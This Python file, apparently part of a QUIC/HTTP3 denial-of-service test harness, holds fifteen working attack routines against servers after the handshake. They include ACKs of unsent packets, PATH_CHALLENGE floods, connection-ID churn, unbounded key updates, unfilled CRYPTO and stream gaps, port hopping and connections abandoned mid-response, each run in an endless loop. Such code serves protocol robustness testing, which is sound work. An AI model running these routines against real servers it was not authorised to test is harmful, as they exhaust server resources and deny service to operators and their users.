"""Attacks by frames of QUIC itself, on connections whose handshake is complete."""

import os
import select
import socket
import time
from collections.abc import Callable, Iterator

from aioquic.tls import Epoch

import http3
from report import Report
from streams import LARGE, SMALL, again, limit, wires
from wire import (
    ACK,
    CONNECTION_CLOSE,
    HANDSHAKE_DONE,
    MAX_DATA,
    MAX_STREAM_DATA,
    NEW_CONNECTION_ID,
    NEW_TOKEN,
    PADDING,
    PATH_CHALLENGE,
    PATH_RESPONSE,
    PING,
    RETIRE_CONNECTION_ID,
    ROOM,
    Target,
    Wire,
    crypto_frame,
    frame,
    stream_frame,
)


# Numbers that aioquic gives none of its own connection IDs.
FIRST_ID = 100


def repeated(target: Target, report: Report, hit: Callable[[Wire, int], None], **limits) -> Iterator[None]:
    """Does something to a connection again and again, and to a new one when that has ended."""
    (wire,) = wires(target, report, **limits)
    turn = 0
    try:
        while True:
            if wire.closed is not None:
                wire, turn = again(wire, target, report, **limits), 0
            hit(wire, turn)
            report.add("hits")
            turn += 1
            wire.step(0.001)
            yield
    finally:
        report.leave(wire)


def once(target: Target, report: Report, hit: Callable[[Wire], None]) -> Iterator[None]:
    """Does something to a connection, waits for its end, and goes on with the next."""
    while True:
        (wire,) = wires(target, report)
        hit(wire)
        report.add("hits")
        wire.until(lambda wire=wire: wire.closed is not None, 2.0)
        report.leave(wire)
        yield


def ack(largest: int, first: int = 0, ranges: list[tuple[int, int]] | None = None) -> bytes:
    """ACK of a largest packet and as many below it, and (gap, length) of further ranges."""
    more = ranges or []
    return frame(ACK, largest, 0, len(more), first, *(number for pair in more for number in pair))


def acks_of_nothing(target: Target, report: Report) -> Iterator[None]:
    """ACKs of packets that were never sent."""
    return once(target, report, lambda wire: wire.frames(ack(1 << 40, 1 << 39)))


def ack_ranges(target: Target, report: Report) -> Iterator[None]:
    """ACKs of every second packet, in as many ranges as a frame holds, again and again."""

    def hit(wire: Wire, turn: int) -> None:
        wire.quic.acknowledges = False
        if turn == 0:
            wire.write(0, http3.request(LARGE), fin=True)
            wire.run(0.02)
        # What has come, less every second packet.
        come = [number for span in wire.quic._spaces[Epoch.ONE_RTT].ack_queue for number in span][::-2]
        gaps = [(above - below - 2, 0) for above, below in zip(come, come[1:], strict=False)]
        if come:
            wire.frames(*[ack(come[0], 0, gaps[:500])] * 20)

    return repeated(target, report, hit)


def path_challenges(target: Target, report: Report) -> Iterator[None]:
    """Packets full of PATH_CHALLENGE."""

    def hit(wire: Wire, _turn: int) -> None:
        wire.frames(*(frame(PATH_CHALLENGE, tail=os.urandom(8)) for _ in range(1200)))

    return repeated(target, report, hit)


def new_connection_id(wire: Wire, number: int, before: int) -> bytes:
    """NEW_CONNECTION_ID that retires those before `before`."""
    return frame(NEW_CONNECTION_ID, number, before, tail=b"\x08" + wire.quic.offer(number) + os.urandom(16))


def connection_ids(target: Target, report: Report) -> Iterator[None]:
    """New connection IDs of which each retires all before it; that they are retired is never acknowledged."""

    def hit(wire: Wire, turn: int) -> None:
        wire.quic.acknowledges = False
        first = FIRST_ID + 100 * turn
        wire.frames(*(new_connection_id(wire, number, number) for number in range(first, first + 100)))

    return repeated(target, report, hit)


def too_many_connection_ids(target: Target, report: Report) -> Iterator[None]:
    """More connection IDs than the other side said it keeps."""
    return once(target, report, lambda wire: wire.frames(*(new_connection_id(wire, n, 0) for n in range(FIRST_ID, FIRST_ID + 20))))


def retired_connection_ids(target: Target, report: Report) -> Iterator[None]:
    """Connection IDs that are retired as they are offered."""

    def hit(wire: Wire, _turn: int) -> None:
        quic = wire.quic
        wire.frames(*(frame(RETIRE_CONNECTION_ID, one.sequence_number) for one in quic._peer_cid_available))
        report.add("retired", len(quic._peer_cid_available))
        quic._peer_cid_available.clear()
        wire.run(0.002)

    return repeated(target, report, hit)


def key_updates(target: Target, report: Report) -> Iterator[None]:
    """New keys with every packet, allowed or not."""

    def hit(wire: Wire, _turn: int) -> None:
        for _ in range(20):
            wire.update_keys()
            wire.frames(frame(PING))
            report.add("updates")

    return repeated(target, report, hit)


def patient_key_updates(target: Target, report: Report) -> Iterator[None]:
    """New keys as often as is allowed: when what was sent under the last ones is acknowledged."""

    def hit(wire: Wire, _turn: int) -> None:
        keys = wire.quic._cryptos[Epoch.ONE_RTT]
        if keys.recv.key_phase == keys.send.key_phase:
            wire.update_keys()
            report.add("updates")
        wire.frames(frame(PING))
        wire.until(lambda: keys.recv.key_phase == keys.send.key_phase, 0.05)

    return repeated(target, report, hit)


def empty_packets(target: Target, report: Report) -> Iterator[None]:
    """Packets with nothing but padding, and frames that say nothing."""

    def hit(wire: Wire, turn: int) -> None:
        for _ in range(20):
            wire.payload(frame(PADDING) * ROOM)
            wire.payload(frame(PING) * ROOM)
            wire.frames(*[crypto_frame(b"", 0)] * 300)
            wire.frames(*(frame(MAX_STREAM_DATA, stream, 1) for stream in range(0, limit(wire), 4)))
            wire.frames(*(frame(MAX_DATA, number) for number in range(300)))

    return repeated(target, report, hit)


def crypto_gaps(target: Target, report: Report) -> Iterator[None]:
    """CRYPTO behind a gap that is never filled, from the end to the beginning, a byte at a time."""

    def hit(wire: Wire, turn: int) -> None:
        end = 60_000 - 400 * (turn % 149)
        wire.frames(*(crypto_frame(b"x", offset) for offset in range(end, end - 400, -2)))

    return repeated(target, report, hit)


def stream_gaps(target: Target, report: Report) -> Iterator[None]:
    """Single bytes on every stream, without the first, as many as there is room for; then a sign of life now and then."""

    def hit(wire: Wire, turn: int) -> None:
        mine = range(64 * turn, min(64 * turn + 64, limit(wire)), 4)
        wire.frames(*(stream_frame(stream, b"x", 42 + 43 * number) for stream in mine for number in range(47)), frame(PING))
        report.add("gaps", 47 * len(mine))

    return repeated(target, report, hit)


def wandering(target: Target, report: Report) -> Iterator[None]:
    """A client that has another port for each packet."""

    def hit(wire: Wire, _turn: int) -> None:
        for _ in range(10):
            wire.socket.close()
            wire.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            wire.socket.setblocking(False)
            wire.frames(frame(PING))
            report.add("ports")

    return repeated(target, report, hit)


def challenged_elsewhere(target: Target, report: Report) -> Iterator[None]:
    """PATH_CHALLENGE from a new port each time, on connection IDs that are used only once and retired then."""
    (wire,) = wires(target, report)
    try:
        while True:
            if wire.closed is not None or not wire.quic._peer_cid_available:
                wire = again(wire, target, report)
            elsewhere = challenge(wire, report)
            # New IDs may come there, and would be lost with the ports.
            while ready := select.select(elsewhere, [], [], 0.05)[0]:
                for one in ready:
                    wire.quic.receive_datagram(one.recv(65536), wire.address, now=time.monotonic())
                    report.add("answers")
            for one in elsewhere:
                one.close()
            wire.run(0.005)
            yield
    finally:
        report.leave(wire)


def challenge(wire: Wire, report: Report) -> list[socket.socket]:
    """A challenge from a new port for each spare connection ID, all of which are retired; the ports."""
    quic = wire.quic
    home, first = wire.socket, quic._peer_cid
    ports = []
    for one in quic._peer_cid_available:
        quic._peer_cid = one
        wire.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        wire.socket.setblocking(False)
        wire.payload(frame(PATH_CHALLENGE, tail=os.urandom(8)).ljust(ROOM, b"\0"))
        ports.append(wire.socket)
        report.add("ports")
    wire.socket, quic._peer_cid = home, first
    wire.frames(*(frame(RETIRE_CONNECTION_ID, one.sequence_number) for one in quic._peer_cid_available))
    quic._peer_cid_available.clear()
    return ports


def hung_up(target: Target, report: Report) -> Iterator[None]:
    """Connections that are closed while a hundred responses are under way."""
    while True:
        (wire,) = wires(target, report)
        for stream in range(0, min(400, limit(wire)), 4):
            wire.write(stream, http3.request(LARGE), fin=True)
        wire.step(0.005)
        wire.frames(frame(CONNECTION_CLOSE, 0, 0, 0))
        report.add("hits")
        report.leave(wire)
        yield


def vanished(target: Target, report: Report) -> Iterator[None]:
    """Connections that ask for a hundred responses, and are never heard of again."""
    while True:
        (wire,) = wires(target, report)
        for stream in range(0, min(400, limit(wire)), 4):
            wire.write(stream, http3.request(LARGE), fin=True)
        wire.step(0.005)
        report.add("hits")
        report.leave(wire)
        yield


ATTACKS = [
    acks_of_nothing,
    ack_ranges,
    path_challenges,
    connection_ids,
    too_many_connection_ids,
    retired_connection_ids,
    key_updates,
    patient_key_updates,
    empty_packets,
    crypto_gaps,
    stream_gaps,
    wandering,
    challenged_elsewhere,
    hung_up,
    vanished,
]
